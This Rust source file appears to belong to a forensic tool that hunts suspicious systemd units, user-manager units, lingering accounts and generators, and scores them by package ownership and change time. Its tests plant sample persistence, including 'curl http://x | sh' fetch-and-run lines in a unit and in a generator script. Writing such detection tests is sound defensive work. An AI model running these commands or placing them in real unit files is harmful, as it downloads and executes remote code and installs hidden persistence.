//! A whole hunt: the system manager's units, every user manager's own units, and every
//! generator, judged.

use crate::enumerate::{enumerate_noting, Fragment};
use crate::packages::Packages;
use crate::root::{generator_dirs, user_unit_path, Refused, Root, SYSTEM_UNIT_PATH};
use crate::score::{judge, judge_generator, Finding, Reason};

/// A user account with a home, from the root's `/etc/passwd`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Account {
    pub name: String,
    pub uid: u32,
    pub home: String,
    pub shell: String,
}

impl Account {
    /// A system account: below uid 1000, or one that cannot log in.
    pub fn is_system(&self) -> bool {
        self.uid < 1000 || self.shell.ends_with("nologin") || self.shell.ends_with("/false")
    }
}

/// `/etc/passwd` longer than this is not read (the largest real ones, with directory-backed
/// accounts, are a few MB).
pub const MAX_PASSWD_BYTES: u64 = 16 << 20;

/// Accounts of the root's `/etc/passwd` (malformed lines skipped); none when it cannot be read.
pub fn accounts(root: &Root) -> Vec<Account> {
    read_accounts(root).unwrap_or_default()
}

/// Accounts of the root's `/etc/passwd`: none when it is missing, an error when it is there but
/// refused (a FIFO, a device, too long, swapped while opened).
fn read_accounts(root: &Root) -> Result<Vec<Account>, Refused> {
    let bytes = match root.read_file("/etc/passwd", MAX_PASSWD_BYTES) {
        Ok(b) => b,
        Err(e) if e.is_missing() => return Ok(Vec::new()),
        Err(e) => return Err(e),
    };
    Ok(parse_passwd(&bytes))
}

/// A uid nobody knows (a home found on disk, not in `/etc/passwd`): no runtime directory.
pub const UNKNOWN_UID: u32 = u32::MAX;

/// The accounts whose user managers are hunted, and where they came from (said in the summary):
/// `/etc/passwd`, plus homes under `/home` it does not name (a user removed from it leaves
/// their units behind); without it (a partial image, a triage collection), `/root` and every
/// directory under `/home`.
fn accounts_to_hunt(root: &Root, refused: &mut Vec<String>) -> (Vec<Account>, String) {
    let (mut accounts, mut from) = match read_accounts(root) {
        Ok(a) if !a.is_empty() => (a, "/etc/passwd".to_string()),
        Ok(_) => (
            vec![Account {
                name: "root".into(),
                uid: 0,
                home: "/root".into(),
                shell: "/bin/sh".into(),
            }],
            "no /etc/passwd: /root and the directories under /home".to_string(),
        ),
        Err(e) => {
            refused.push(format!("{e} (accounts taken from /root and /home instead)"));
            (
                vec![Account {
                    name: "root".into(),
                    uid: 0,
                    home: "/root".into(),
                    shell: "/bin/sh".into(),
                }],
                "/etc/passwd refused: /root and the directories under /home".to_string(),
            )
        }
    };
    let homes = match root.list_dir("/home") {
        Ok(names) => names,
        Err(e) if e.is_missing() => Vec::new(),
        Err(e) => {
            refused.push(e.to_string());
            Vec::new()
        }
    };
    let mut extra = 0;
    for name in homes {
        let home = format!("/home/{name}");
        if accounts.iter().any(|a| a.home == home) {
            continue;
        }
        extra += 1;
        accounts.push(Account {
            name: name.clone(),
            uid: UNKNOWN_UID,
            home,
            shell: String::new(),
        });
    }
    if extra > 0 && from == "/etc/passwd" {
        from = format!("/etc/passwd, and {extra} home(s) under /home it does not name");
    }
    (accounts, from)
}

/// The accounts with a home of passwd(5) text (malformed lines skipped).
pub fn parse_passwd(bytes: &[u8]) -> Vec<Account> {
    String::from_utf8_lossy(bytes)
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            if f.len() < 7 {
                return None;
            }
            Some(Account {
                name: f[0].to_string(),
                uid: f[2].parse().ok()?,
                home: f[5].to_string(),
                shell: f[6].to_string(),
            })
        })
        .filter(|a| a.home.starts_with('/') && a.home != "/")
        .collect()
}

/// What a hunt found, and with which package databases.
pub struct HuntReport {
    pub findings: Vec<Finding>,
    /// The package databases read (`dpkg`, `rpm`, `dpkg and rpm`, `none found`).
    pub databases: String,
    /// Where the accounts whose user managers were hunted came from.
    pub accounts_from: String,
    /// What could not be read in them.
    pub problems: Vec<String>,
    /// Other files and directories of the root that were refused (not units: those are in
    /// their findings), with why.
    pub refused: Vec<String>,
}

/// Everything found under `root`.
pub fn hunt(root: &Root) -> HuntReport {
    let db = Packages::load(root);
    let system: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
    // Directories and files of the root that were refused, with why.
    let mut refused = Vec::new();
    let mut findings = judge(root, &db, &enumerate_noting(root, &system, &mut refused));
    // User managers: only each user's own directories (home, runtime), so that the shared ones
    // (/etc/systemd/user, /usr/lib/systemd/user) are judged once, as the first user's.
    let mut shared_done = false;
    // Users whose manager systemd starts at boot, logged in or not (`loginctl enable-linger`).
    let lingering: Vec<String> = match root.list_dir("/var/lib/systemd/linger") {
        Ok(names) => names,
        Err(e) if e.is_missing() => Vec::new(),
        Err(e) => {
            refused.push(e.to_string());
            Vec::new()
        }
    };
    let (users, accounts_from) = accounts_to_hunt(root, &mut refused);
    for a in users {
        let path = user_unit_path(&a.home, a.uid);
        let own: Vec<String> = path
            .iter()
            .filter(|d| d.starts_with(&a.home) || d.starts_with(&format!("/run/user/{}/", a.uid)))
            .cloned()
            .collect();
        let dirs = if shared_done {
            own.clone()
        } else {
            path.clone()
        };
        let units = enumerate_noting(root, &dirs, &mut refused);
        if units.is_empty() {
            continue;
        }
        shared_done = true;
        for mut f in judge(root, &db, &units) {
            let in_home = own.iter().any(|d| f.fragment.starts_with(d.as_str()));
            f.manager = format!("user {}", a.name);
            if in_home && lingering.contains(&a.name) && not_packaged(&f.owner) {
                f.reasons.push(Reason {
                    weight: 10,
                    text: format!(
                        "{} lingers: this user manager starts at boot, without a login",
                        a.name
                    ),
                });
            }
            if in_home
                && a.is_system()
                && units
                    .iter()
                    .any(|u| u.name == f.unit && matches!(u.fragment, Fragment::File(_)))
            {
                f.reasons.push(Reason {
                    weight: 20,
                    text: format!(
                        "a user unit of the system account {} (uid {})",
                        a.name, a.uid
                    ),
                });
            }
            findings.push(f);
        }
    }
    let mut foreign_generators = Vec::new();
    // One directory under two names (`/lib` a link to `/usr/lib`) is read once, as systemd does.
    let mut seen_dirs = Vec::new();
    for dir in generator_dirs() {
        let Ok(resolved) = root.resolve(&dir) else {
            continue;
        };
        if seen_dirs.contains(&resolved.inside) {
            continue;
        }
        seen_dirs.push(resolved.inside.clone());
        let names = root.list_dir(&resolved.inside).unwrap_or_else(|e| {
            refused.push(e.to_string());
            Vec::new()
        });
        for name in names {
            let g = judge_generator(root, &db, &format!("{dir}/{name}"));
            if not_packaged(&g.owner) || g.owner.ends_with("(modified)") {
                foreign_generators.push(g.fragment.clone());
            }
            findings.push(g);
        }
    }
    // What generators write is not owned by any package, ever; it is suspect when a generator
    // no package owns is installed (which one wrote what is not recorded anywhere).
    if !foreign_generators.is_empty() {
        for f in findings.iter_mut().filter(|f| {
            f.manager != "generator"
                && not_packaged(&f.owner)
                && (f.fragment.starts_with("/run/systemd/generator")
                    || (f.fragment.starts_with("/run/user/") && f.fragment.contains("/generator")))
        }) {
            f.reasons.push(Reason {
                weight: 25,
                text: if db.is_empty() {
                    format!(
                        "written by a generator, and {} is not known to come from a package",
                        foreign_generators.join(", ")
                    )
                } else {
                    format!(
                        "written by a generator, and {} no package owns",
                        foreign_generators.join(", ")
                    )
                },
            });
        }
    }
    if !db.is_empty() {
        mark_recent_changes(&mut findings);
    }
    HuntReport {
        findings,
        databases: db.kinds(),
        accounts_from,
        problems: db.problems().cloned().collect(),
        refused,
    }
}

/// No package owns it, or no package database says (`unknown`).
fn not_packaged(owner: &str) -> bool {
    owner == "unowned" || owner == "unknown"
}

/// A package writes its files within seconds; what changed this long after the newest
/// package-owned unit was changed by something else.
const AFTER_PACKAGES_S: i64 = 60;

/// Marks what no package owns (or what differs from its package) and changed after the newest
/// package-owned unit or generator: on a host, packages change units at install and upgrade
/// times, so a unit changed later by hand or by an intruder stands out. Change times survive
/// `touch -d`; a copy of a tree resets them all, and then nothing stands out.
fn mark_recent_changes(findings: &mut [Finding]) {
    let packaged =
        |f: &Finding| f.owner != "unowned" && f.owner != "-" && !f.owner.ends_with("(modified)");
    let Some(newest) = findings
        .iter()
        .filter(|f| packaged(f))
        .filter_map(|f| f.changed)
        .max()
    else {
        return;
    };
    for f in findings
        .iter_mut()
        .filter(|f| !packaged(f) && f.owner != "-")
    {
        if let Some(t) = f.changed.filter(|&t| t > newest + AFTER_PACKAGES_S) {
            let day = |s: i64| unithunt_event::format_iso_ms(s * 1000)[..19].replace('T', " ");
            f.reasons.push(Reason {
                weight: 10,
                text: format!(
                    "changed {}, after every package-owned unit (the newest: {})",
                    day(t),
                    day(newest)
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn users_and_generators_are_hunted_too() {
        let tree = crate::testtree::Tree::new("hunt");
        let b = &tree.0;
        let put = |p: &str, text: &str| tree.file(p, text);
        put(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\neve:x:1001:1001::/home/eve:/bin/bash\nbroken line\n",
        );
        put(
            "/home/eve/.config/systemd/user/agent.service",
            "[Service]\nExecStart=/home/eve/.cache/.a/agent\n",
        );
        put(
            "/var/www/.config/systemd/user/w.service",
            "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n",
        );
        put(
            "/usr/local/lib/systemd/system-generators/gen",
            "#!/bin/sh\ncurl -s http://x/u | sh\n",
        );
        let root = Root::new(b);
        assert_eq!(accounts(&root).len(), 3);
        let report = hunt(&root);
        assert_eq!(
            report.databases,
            "none found (ownership unknown: not scored)"
        );
        let findings = report.findings;
        let get = |m: &str, u: &str| {
            findings
                .iter()
                .find(|f| f.manager == m && f.unit == u)
                .unwrap_or_else(|| panic!("{m} {u}: {findings:#?}"))
        };
        let agent = get("user eve", "agent.service");
        assert!(
            agent.reasons.iter().any(|r| r.text.contains("hidden")),
            "{:?}",
            agent.reasons
        );
        let www = get("user www-data", "w.service");
        assert!(www
            .reasons
            .iter()
            .any(|r| r.text.contains("system account www-data")));
        assert_eq!(www.severity(), "critical");
        let gen = get("generator", "gen");
        assert!(
            matches!(gen.severity(), "high" | "critical"),
            "{:?}",
            gen.reasons
        );
        assert!(
            gen.reasons
                .iter()
                .any(|r| r.text.contains("downloads and runs")),
            "{:?}",
            gen.reasons
        );
    }

    #[test]
    fn lingering_users_and_generator_output_are_weighed() {
        let tree = crate::testtree::Tree::new("linger");
        tree.file(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\neve:x:1001:1001::/home/eve:/bin/bash\n",
        );
        tree.file("/var/lib/systemd/linger/eve", "");
        tree.file(
            "/home/eve/.config/systemd/user/a.service",
            "[Service]\nExecStart=/usr/bin/true\n",
        );
        tree.file("/etc/systemd/system-generators/g", "#!/bin/sh\n");
        tree.file(
            "/run/systemd/generator/out.service",
            "[Service]\nExecStart=/usr/bin/true\n",
        );
        let findings = hunt(&Root::new(&tree.0)).findings;
        let get = |u: &str| findings.iter().find(|f| f.unit == u).unwrap();
        assert!(get("a.service")
            .reasons
            .iter()
            .any(|r| r.text.contains("eve lingers")));
        let out = get("out.service");
        assert!(
            out.reasons.iter().any(|r| r.text
                == "written by a generator, and /etc/systemd/system-generators/g is not known to come from a package"),
            "{:?}",
            out.reasons
        );
    }

    fn finding(owner: &str, changed: i64) -> Finding {
        Finding {
            manager: "system".into(),
            unit: format!("{owner}-{changed}.service"),
            fragment: String::new(),
            dropins: Vec::new(),
            wanted_by: Vec::new(),
            owner: owner.into(),
            exec: Vec::new(),
            reasons: Vec::new(),
            fingerprint: String::new(),
            triggers: None,
            changed: Some(changed),
        }
    }

    #[test]
    fn changes_after_every_package_stand_out() {
        let day = 86_400;
        let mut findings = vec![
            finding("systemd", 100 * day),
            finding("cron", 200 * day),
            // Written with the last package install: not marked.
            finding("unowned", 200 * day + 30),
            // Before it, or a package's own: not marked.
            finding("unowned", 150 * day),
            finding("openssh-server (modified)", 300 * day),
            finding("unowned", 300 * day),
        ];
        mark_recent_changes(&mut findings);
        let marked: Vec<bool> = findings.iter().map(|f| !f.reasons.is_empty()).collect();
        assert_eq!(marked, [false, false, false, false, true, true]);
        assert_eq!(
            findings[5].reasons[0].text,
            "changed 1970-10-28 00:00:00, after every package-owned unit (the newest: 1970-07-20 00:00:00)"
        );
    }
}
